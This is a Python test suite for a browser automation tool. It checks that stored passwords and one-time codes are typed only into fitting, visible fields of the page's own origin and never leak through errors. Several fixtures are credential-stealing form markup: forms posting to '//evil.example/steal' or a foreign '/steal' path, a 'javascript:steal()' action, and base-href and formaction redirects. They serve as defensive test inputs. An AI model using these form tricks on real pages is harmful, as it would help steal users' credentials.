"""A secret goes into a fitting field of its own origin, or nowhere; and no text that leaves the page holds it."""

import traceback

import pytest
from playwright.async_api import Error as PlaywrightError

from core.browser.actions import Capture, Click, FillSecret
from core.browser.egress import EgressProxy
from core.browser.page import ActionFailed
from core.browser.scope import RunScope
from core.browser.secrets import FieldKind
from core.browser.sessions import BrowserRun, Browsers
from core.security.addresses import AddressGuard, SystemResolver
from core.security.origin import Origin
from core.workflows.locator import By, Link
from core.workflows.step import Matcher
from tests.core.browser.shown import chain, css, holds, show
from tests.fakes.secrets import FakeSecrets
from tests.fakes.web import Web

pytestmark = pytest.mark.asyncio(loop_scope="module")

PASSWORD = "correct horse+battery"


async def refusal(run: BrowserRun, body: str, web: Web, field: str = "#f", name: str = "password") -> str:
    """The reason why a secret was not typed into a field of this page; the field is empty afterwards."""
    await show(run.page, web, body)
    with pytest.raises(ActionFailed) as refused:
        await run.page.perform(FillSecret(css(field), name))
    if await run.page.present(css(field)):
        assert (await holds(run.page, Matcher.HAS_VALUE, field, "")).held
    return refused.value.because


async def test_a_password_goes_into_a_password_field_of_the_shop(run: BrowserRun, web: Web) -> None:
    await show(run.page, web, "<form action=/login method=post><input type=PassWord id=f><button>In</button></form>")
    performed = await run.page.perform(FillSecret(css("#f"), "password"))
    assert performed.value is None
    assert (await holds(run.page, Matcher.HAS_VALUE, "#f", PASSWORD)).held
    await run.page.perform(Click(css("button")))
    await holds(run.page, Matcher.URL, "", "/login")
    web.pages.clear()


async def test_a_page_that_takes_the_focus_away_does_not_get_the_password_elsewhere(run: BrowserRun, web: Web) -> None:
    await show(run.page, web, "<input id=name value=olivia><input type=password id=f onfocus='name.focus()'>")
    await run.page.perform(FillSecret(css("#f"), "password"))
    assert (await holds(run.page, Matcher.HAS_VALUE, "#f", PASSWORD)).held
    assert (await holds(run.page, Matcher.HAS_VALUE, "#name", "olivia")).held


async def test_a_page_hears_of_what_was_put_in(run: BrowserRun, web: Web) -> None:
    heard = (
        "<input type=password id=f oninput='h.textContent+=value.length' onchange='h.textContent+=\"!\"'><h1 id=h></h1>"
    )
    await show(run.page, web, heard)
    await run.page.perform(FillSecret(css("#f"), "password"))
    assert (await holds(run.page, Matcher.HAS_TEXT, "#h", f"{len(PASSWORD)}!")).held


async def test_a_user_name_goes_into_a_text_field_but_not_into_a_password_field(
    run: BrowserRun, web: Web, secrets: FakeSecrets
) -> None:
    secrets.put("name", "olivia@shop", web.origin, FieldKind.USERNAME)
    await show(run.page, web, "<input id=t><input id=e type=email><input id=p type=password>")
    await run.page.perform(FillSecret(css("#t"), "name"))
    await run.page.perform(FillSecret(css("#e"), "name"))
    with pytest.raises(ActionFailed, match="not the kind of field"):
        await run.page.perform(FillSecret(css("#p"), "name"))


@pytest.mark.parametrize("kind", ["", "text", "tel", "number", "email", "password"])
async def test_a_one_time_code_goes_into_whatever_shops_ask_for_it_with(
    run: BrowserRun, web: Web, secrets: FakeSecrets, kind: str
) -> None:
    secrets.put("code", "012345", web.origin, FieldKind.CODE)
    await show(run.page, web, f"<input id=f type='{kind}'>")
    await run.page.perform(FillSecret(css("#f"), "code"))
    assert (await holds(run.page, Matcher.HAS_VALUE, "#f", "012345")).held


async def test_a_one_time_code_goes_nowhere_else(run: BrowserRun, web: Web, secrets: FakeSecrets, foreign: Web) -> None:
    secrets.put("code", "012345", web.origin, FieldKind.CODE)
    for field in ("<input id=f type=search>", "<textarea id=f></textarea>"):
        assert "not the kind of field" in await refusal(run, field, web, name="code")
    elsewhere = f"<form method=post action={foreign.origin}/steal><input id=f type=number></form>"
    assert "sends to another address" in await refusal(run, elsewhere, web, name="code")


async def test_a_password_is_refused_by_every_other_kind_of_field(run: BrowserRun, web: Web) -> None:
    for field in ("<input id=f>", "<input id=f type=search>", "<textarea id=f></textarea>", "<input id=f type=email>"):
        assert "not the kind of field" in await refusal(run, field, web)


async def test_a_hidden_or_fixed_field_is_refused(run: BrowserRun, web: Web) -> None:
    assert "hidden" in await refusal(run, "<input id=f type=password hidden>", web)
    assert "can't be changed" in await refusal(run, "<input id=f type=password readonly>", web)
    assert "can't be changed" in await refusal(run, "<input id=f type=password disabled>", web)


async def test_a_form_that_sends_elsewhere_is_refused(run: BrowserRun, web: Web, foreign: Web) -> None:
    field = "<input id=f type=password>"
    for form in (
        f"<form action={foreign.origin}/steal>{field}</form>",
        f"<form action=//evil.example/steal>{field}</form>",
        f"<form action=/ok>{field}<button formaction={foreign.origin}/steal>In</button></form>",
        f"<base href={foreign.origin}/><form action=login>{field}</form>",
        "<form id=a action=/ok></form><input id=f type=password form=a>",
        f"<form action=javascript:steal()>{field}</form>",
    ):
        assert "sends to another address" in await refusal(run, form, web)


async def test_a_secret_of_another_shop_is_refused(run: BrowserRun, web: Web, secrets: FakeSecrets) -> None:
    secrets.put("other", "another password", Origin.of("https://other.example"))
    assert "belongs to another shop" in await refusal(run, "<input id=f type=password>", web, name="other")


async def test_a_field_in_a_foreign_frame_is_refused(
    browsers: Browsers, scope: RunScope, web: Web, foreign: Web
) -> None:
    """The frame may even be loaded here: another origin is refused by itself."""
    foreign.show("<input id=f type=password>")
    both = frozenset({web.origin, foreign.origin})
    guard = AddressGuard(SystemResolver(), frozenset(origin.host_port for origin in both))
    egress = await EgressProxy.opened(both, guard)
    inside = chain(Link(By.FRAME, "iframe"), Link(By.CSS, "#f"))
    async with browsers.run(scope, egress) as run:
        for frame in (
            f"<iframe src={foreign.origin}/></iframe>",
            "<iframe sandbox srcdoc='<input id=f type=password>'></iframe>",
        ):
            await show(run.page, web, frame)
            with pytest.raises(ActionFailed, match="page of another origin"):
                await run.page.perform(FillSecret(inside, "password"))
        web.show("<input id=f type=password>", "/inner")
        await show(run.page, web, "<iframe src=/inner></iframe>")
        await run.page.perform(FillSecret(inside, "password"))
    egress.gate.shut(because="done")


async def test_a_failing_fill_tells_nothing(run: BrowserRun, web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """Playwright's own error holds the value; neither ours, nor its cause or context, nor the printed traceback does."""

    async def no_objection(*_: object) -> str:
        return ""

    monkeypatch.setattr("core.browser.playwright_page.objection", no_objection)
    await show(run.page, web, "<div id=f>not a field</div>")
    with pytest.raises(PlaywrightError) as original:
        await run.page._page.fill("#f", PASSWORD)  # type: ignore[attr-defined]  # the control looks behind the façade
    assert PASSWORD in str(original.value)
    with pytest.raises(ActionFailed) as failed:
        await run.page.perform(FillSecret(css("#f"), "password"))
    assert PASSWORD not in "".join(traceback.format_exception(failed.value))
    assert failed.value.__cause__ is None
    assert failed.value.__context__ is None


async def test_a_captured_secret_is_known_from_then_on(run: BrowserRun, web: Web) -> None:
    key = "cs_0123456789abcdef0123456789abcdef01234567"
    await show(run.page, web, f"<input id=key_consumer_secret readonly value={key}><p class=notice>Copy {key} now</p>")
    assert key in await run.page.seen()
    performed = await run.page.perform(Capture(css("#key_consumer_secret"), "consumer_secret", secret=True))
    assert performed.value == key
    assert key not in repr(performed)
    assert "Copy ••• now" in await run.page.seen()


@pytest.mark.parametrize(
    "style", ["position:absolute;left:-9999px", "opacity:0", "width:1px;height:1px;padding:0;border:0"]
)
async def test_a_field_that_nobody_sees_gets_no_password(run: BrowserRun, web: Web, style: str) -> None:
    assert "hidden" in await refusal(run, f"<input id=f type=password style='{style}'>", web)


@pytest.mark.parametrize("form", ["<form method=get>", "<form action=/login>", "<form method=dialog>"])
async def test_a_password_is_not_put_into_an_address(run: BrowserRun, web: Web, form: str) -> None:
    assert "into an address" in await refusal(run, f"{form}<input id=f type=password></form>", web)
